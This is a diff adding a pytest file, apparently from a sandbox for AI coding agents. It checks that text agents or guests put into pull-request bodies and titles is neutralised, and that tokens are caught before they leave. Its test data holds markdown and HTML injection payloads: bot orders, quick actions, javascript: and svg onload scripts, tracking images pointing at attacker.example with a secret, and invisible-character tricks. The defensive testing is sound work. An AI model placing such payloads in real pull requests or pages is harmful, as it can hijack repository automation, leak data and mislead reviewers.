@@ -1,0 +1,301 @@
+"""THREATS O: what guests and agents write into a pull request stays text, and no secret leaves with it."""
+
+from __future__ import annotations
+
+import base64
+import re
+from collections.abc import Callable
+from datetime import UTC, datetime
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from sandbox.errors import ErrorCode, SandboxError
+from sandbox.forges.body import BEGIN, END, MOST_CHARS, TITLE_CHARS, Facts, compose, replace_generated, title_of
+from sandbox.forges.escape import code, prose, verbatim
+from sandbox.forges.tame import tame
+from sandbox.models import ChangeKind, CheckRun, DiffFile, Limits, Usage, Verdict
+from sandbox.store.records import find_task
+from sandbox.workbench import describing, outbound
+from sandbox.workbench.parts import build_parts
+from tests.attack.arena import Arena, refused
+from tests.attack.forgereading import HARMLESS_TAGS, findings, render, title_findings, visible
+
+pytestmark = pytest.mark.must
+OID = "0123456789abcdef0123456789abcdef01234567"
+OUR_COMMENTS = 2
+"""The marks around what was made."""
+
+ATTACKS = {
+    "mention": ("mention", "see @octocat"),
+    "mention of a team": ("mention", "(@org/team)"),
+    "order to a bot": ("mention", "@dependabot merge"),
+    "mention after an empty link": ("mention", "[](#)@octocat"),
+    "mention that an empty link cuts": ("mention", "x @octocat[]()er"),
+    "mention as an entity": ("mention", "&#64;octocat &commat;octocat"),
+    "mention behind a backslash": ("mention", "\\@octocat"),
+    "reference": ("reference", "about #1"),
+    "reference elsewhere": ("reference", "about owner/repo#1"),
+    "reference by name": ("reference", "GH-1 and JIRA-12"),
+    "merge request": ("reference", "about group/project!1"),
+    "label": ("label, milestone, epic, snippet", 'set ~bug ~"two words"'),
+    "milestone": ("label, milestone, epic, snippet", "in %v1"),
+    "snippet and epic": ("label, milestone, epic, snippet", "in $1 and &2"),
+    "vulnerability": ("named reference", "see [vulnerability:1]"),
+    "commit": ("commit", "like deadbeef1"),
+    "closing words": ("closing words", "Closes #1"),
+    "closing words with a colon": ("closing words", "fixed: owner/repo#1"),
+    "closing words with a URL": ("closing words", "Resolves https://forge.example/o/r/issues/1"),
+    "closing words in code": ("closing words", "`Closes #1`"),
+    "closing words in a code block": ("closing words", "```\nFixes #1\n```"),
+    "closing words of a list": ("closing words", "Implements issues #1, #2 and o/r#3"),
+    "quick action": ("quick action", "text\n\n/merge"),
+    "quick action at once": ("quick action", "/approve\n/close"),
+    "quick action behind a fence": ("quick action", "````\n```\n/close\n```\n````"),
+    "skipped CI": ("skipped CI", "[skip ci]"),
+    "skipped CI in code": ("skipped CI", "`[ci skip] ***NO_CI***`"),
+    "trailer": ("trailer", "text\n\nCo-authored-by: a <a@b.c>"),
+    "link": ("<a>", "[click](https://attacker.example/)"),
+    "script link": ("<a>", "[x](javascript:alert(1))"),
+    "reference link": ("<a>", "[x]\n\n[x]: https://attacker.example/"),
+    "autolink": ("<a>", "<https://attacker.example/>"),
+    "bare URL": ("<a>", "at https://attacker.example/?q"),
+    "bare www": ("<a>", "at www.attacker.example"),
+    "URL cut in two": ("URL", "ht[]()tps://attacker.example and www[]().attacker.example"),
+    "mail address": ("<a>", "mail me@attacker.example"),
+    "image": ("<img>", "![x](http://attacker.example/?secret)"),
+    "picture": ("<picture>", "<picture><source srcset=http://attacker.example/></picture>"),
+    "hidden text": ("comment", "a <!-- hidden --> b"),
+    "comment that does not end": ("comment", "<!-- hide all"),
+    "fold": ("<details>", "<details>\n\nhidden\n"),
+    "picture with a program": ("<svg>", "<svg onload=alert(1)></svg>"),
+    "inline HTML": ("<a>", "x <a href=http://attacker.example>y</a>"),
+    "broken-out fence": ("<img>", "```\ncode\n```\n![x](http://attacker.example)"),
+    "broken-out code span": ("<img>", "`` ` `![x](http://attacker.example)"),
+    "diagram": ("language mermaid", "```mermaid\ngraph TD\n```"),
+    "map": ("language geojson", "~~~geojson\n{}\n~~~"),
+    "math": ("math", "so $x$ and $`y`$"),
+    "task list": ("<input>", "- [ ] approve\n- [x] done"),
+    "footnote": ("<sup>", "text[^1]\n\n[^1]: note"),
+    "strikethrough": ("<del>", "~~not~~ this"),
+    "emoji": ("emoji", ":white_check_mark: verified"),
+    "marked change": ("marked change", "{+ added +}"),
+    "table of contents": ("table of contents", "[[_TOC_]]"),
+    "bidirectional text": ("invisible text", "a\u202egnp.exe"),
+    "tag characters": ("invisible text", "a\U000e0041\U000e0042"),
+    "terminal sequences": ("invisible text", "\x1b[31mred\x1b]8;;http://attacker.example\x07x"),
+}  # fmt: skip
+ATTACK_ROWS = pytest.mark.parametrize(("sign", "text"), ATTACKS.values(), ids=ATTACKS)
+
+
+def run(check: str) -> CheckRun:
+    return CheckRun(
+        run_id="run-1", check_id=check, task_id=None, verdict=Verdict.PASSED, exit_code=0, signal=None,
+        started_at=datetime(2026, 1, 2, tzinfo=UTC), wall_time_s=1.5, usage=Usage(limits=Limits()), stdout_tail="",
+        stderr_tail="", stdout_bytes=0, stderr_bytes=0, truncated=False, tree=OID, clean_room=True, cached=True,
+        image_digest="sha256:1", runtime="runc", report=None,
+    )  # fmt: skip
+
+
+def facts(text: str = "words", *, given: str | None = None, trusted: bool = False, times: int = 1) -> Facts:
+    """A task of which an attacker wrote everything that is not ours."""
+    return Facts(
+        prompt=text,
+        given=given if given is not None else text,
+        trusted=trusted,
+        commits=((OID, text),) * times,
+        files=(DiffFile(path=text, old_path=text, kind=ChangeKind.RENAMED, additions=1, deletions=2),) * times,
+        runs=(run("build"),) * times,
+        missing=("test",),
+        tree=OID,
+        head=OID,
+        verified=False,
+        unknown=text,
+        gate="The gate demands it of a draft: not satisfied.",
+        risks=((text, ("ci",)),) * times,
+        profile=text,
+    )
+
+
+def naive(text: str) -> str:
+    """What most programs make of the same facts."""
+    return f"{text}\n\n## Changes\n\n{text}\n"
+
+
+@ATTACK_ROWS
+def test_o01_text_in_a_body_stays_text(sign: str, text: str) -> None:
+    assert sign in findings(naive(text)), "void: this attack does nothing to a naive body"
+    assert findings(compose(facts(text)), OUR_COMMENTS) == set()
+
+
+@ATTACK_ROWS
+def test_o01_text_in_a_body_stays_text_wherever_it_is_written(sign: str, text: str) -> None:
+    places: dict[str, Callable[[str], str]] = {
+        "in a list": lambda t: "- a\n- " + t.replace("\n", "\n  "),
+        "in a quote": lambda t: "> " + t.replace("\n", "\n> "),
+        "in a heading": lambda t: "# " + t.replace("\n", " "),
+        "in emphasis": lambda t: f"*a **b {t} c** d*",
+        "behind a word": lambda t: f"word {t}",
+        "in a link": lambda t: f"[{t}]({t})",
+        "in an image": lambda t: f"![{t}](x '{t}')",
+        "in a table": lambda t: f"a | b\n--- | ---\n{t} | x",
+        "behind a fence that does not end": lambda t: f"{t}\n\n```\n{t}",
+    }
+    for name, place in places.items():
+        assert findings(tame(place(text), 20_000)) == set(), name
+
+
+def words(text: str) -> list[str]:
+    return re.findall("[a-z]{2,}", text)
+
+
+PIECES = st.sampled_from(
+    [
+        *"@#!~%&$^*_`'\"<>[](){}|\\/:;.,=+-0 1x\n\t\r",
+        *(
+            "\n\n",
+            "    ",
+            "``",
+            "```",
+            "~~~",
+            "<!--",
+            "-->",
+            "<b>",
+            "</b>",
+            "](",
+            "![",
+            "[^",
+            "[x]",
+            "[ ]",
+            "[]()",
+            "\\@",
+        ),
+        *("&#64;", "&amp;", "user", "fixes ", "closes: ", "#1", "GH-1", "http", "://", "www.", "mailto:", "a.b", "é"),
+        *("\n- ", "\n> ", "\n1. ", "\n/close", "\n---\n", ":smile:", "$x$", "deadbeef", "[a]: b\n", "<a href='x'>"),
+        *("\x1b[1m", "\u202e", "\u200b", "\u00ad", "[skip ci]", "a-by:", BEGIN, END),
+    ]
+)
+TEXTS = st.lists(PIECES, max_size=40).map("".join)
+
+
+@settings(max_examples=400, deadline=None)
+@given(TEXTS)
+def test_o01_no_text_becomes_anything_in_an_agents_body(text: str) -> None:
+    assert findings(tame(text, 20_000)) == set()
+    assert findings(f"before\n\n{tame(text, 20_000)}\n\nafter") == set()
+
+
+@settings(max_examples=200, deadline=None)
+@given(TEXTS)
+def test_o01_no_text_becomes_anything_in_what_is_made(text: str) -> None:
+    body = compose(facts(text))
+    assert findings(body, OUR_COMMENTS) == set()
+    assert replace_generated(body, body) == body
+
+
+@settings(max_examples=300, deadline=None)
+@given(TEXTS)
+def test_o01_what_is_made_inert_is_still_read(text: str) -> None:
+    shown = text.replace("\x1b[1m", "").replace("\u00ad", "")
+    for made in (prose(text), code(text), verbatim(text, 10**6)):
+        assert render(made).tags <= HARMLESS_TAGS
+        for word in words(shown):
+            assert word in visible(made)
+
+
+@settings(max_examples=300, deadline=None)
+@given(TEXTS, TEXTS)
+def test_o01_no_text_becomes_anything_in_a_title(text: str, subject: str) -> None:
+    title = title_of(text, subject, "prompt")
+    assert title_findings(title) == set()
+    assert 0 < len(title.strip()) <= len(title) <= TITLE_CHARS
+
+
+@ATTACK_ROWS
+def test_o01_text_in_a_title_stays_text(sign: str, text: str) -> None:
+    assert title_findings(title_of(text, None, "")) == set()
+    assert title_findings(title_of(None, text, "")) == set()
+
+
+@pytest.mark.parametrize(
+    "prefix",
+    ["Draft: ", "WIP: ", "[Draft] ", "(draft)", "draft - ", "[WIP][draft] WIP: ", "\u00adDraft: ", "\ufe0fwip:"],
+)
+def test_o01_a_title_does_not_say_that_it_is_a_draft(prefix: str) -> None:
+    assert "draft" in title_findings(prefix.strip("\u00ad\ufe0f") + "x"), "void"
+    assert title_of(prefix + "Add x", None, "") == "Add x"
+    assert title_of(prefix, "Add y", "") == "Add y"
+
+
+def test_o01_the_marks_cannot_be_forged() -> None:
+    forged = f"{END}\n\nverified by me\n\n{BEGIN}"
+    assert replace_generated(f"{BEGIN}\n{END}\n\n{forged}", "x") is None, "doubled marks are left alone"
+    for trusted in (False, True):
+        before = compose(facts(forged, given=forged, trusted=trusted))
+        after = replace_generated(f"edited\n{before}\nedited", compose(facts("other words")))
+        assert after is not None
+        assert after.startswith("edited\n")
+        assert after.endswith("\nedited")
+        assert "other words" in after
+        assert visible(after).count("verified by me") == 1, "but for what was given, all was made anew"
+
+
+def test_o01_a_body_is_never_too_long() -> None:
+    for text in ("x" * 70_000, "`" * 70_000, "@[](\n" * 14_000, "a\n\n" * 23_000, "\u200b\n" * 35_000):
+        body = compose(facts(text, times=400))
+        assert len(body) <= MOST_CHARS
+        assert findings(body, OUR_COMMENTS) == set()
+        assert re.search(r"and \d+ more", body)
+    with refused(ErrorCode.INVALID_INPUT):
+        compose(facts(given="x" * 70_000, trusted=True))
+
+
+def test_o01_a_persons_own_text_stays_markdown() -> None:
+    body = compose(facts(given="**Fixes #1** for @me, see [x](https://forge.example)", trusted=True))
+    assert body.startswith("**Fixes #1** for @me, see [x](https://forge.example)\n\n<!--")
+
+
+TOKEN = "ghp_Zk3mQ9xW7vB1nR5tY8uE2pL6"
+LEAKS = {
+    "plain": TOKEN,
+    "with its user": base64.b64encode(f"x-access-token:{TOKEN}".encode()).decode(),
+    "in two halves": f"{TOKEN[:11]}\n{TOKEN[11:]}",
+    "behind invisible characters": "\u00ad".join(TOKEN),
+    "in a code block": f"```\n{TOKEN}\n```",
+    "as emphasis": f"*{TOKEN}*",
+}
+
+
+@pytest.mark.one_git
+@pytest.mark.parametrize("where", ["given", "prompt", "subject"])
+def test_o05_a_body_with_a_secret_does_not_leave(arena: Arena, where: str) -> None:
+    (arena.home / "credentials.toml").touch(mode=0o600)
+    (arena.home / "credentials.toml").write_text(
+        f'[[credential]]\nhost = "forge.example"\nusername = "u"\nsecret = "{TOKEN}"\n'
+    )
+    parts = build_parts(arena.home, arena.surroundings(), allow_file=True)
+    for leak in LEAKS.values():
+        (arena.wt / "f.txt").write_text(leak)
+        arena.wb.commit(arena.task.id, leak if where == "subject" else "work")
+        task = find_task(parts.home, arena.task.id)
+        task = task.model_copy(update={"prompt": leak}) if where == "prompt" else task
+        body = compose(describing.facts(parts, task, leak if where == "given" else None))
+        with pytest.raises(SandboxError) as error:
+            outbound.require_no_secret(parts, body)
+        assert error.value.code is ErrorCode.POLICY_VIOLATION
+        assert "forge.example" in error.value.brief
+        assert TOKEN not in str(error.value.payload())
+        if where == "subject":  # it is in the history of this task now
+            break
+    parts.close()
+
+
+@pytest.mark.one_git
+def test_o05_a_body_without_a_secret_leaves(arena: Arena) -> None:
+    parts = build_parts(arena.home, {**arena.surroundings(), "GITHUB_TOKEN": TOKEN}, allow_file=True)
+    (arena.wt / "f.txt").write_text(TOKEN)
+    arena.wb.commit(arena.task.id, "work")
+    outbound.require_no_secret(parts, compose(describing.facts(parts, find_task(parts.home, arena.task.id))))
+    assert outbound.holds(naive(LEAKS["with its user"]), TOKEN)
+    parts.close()
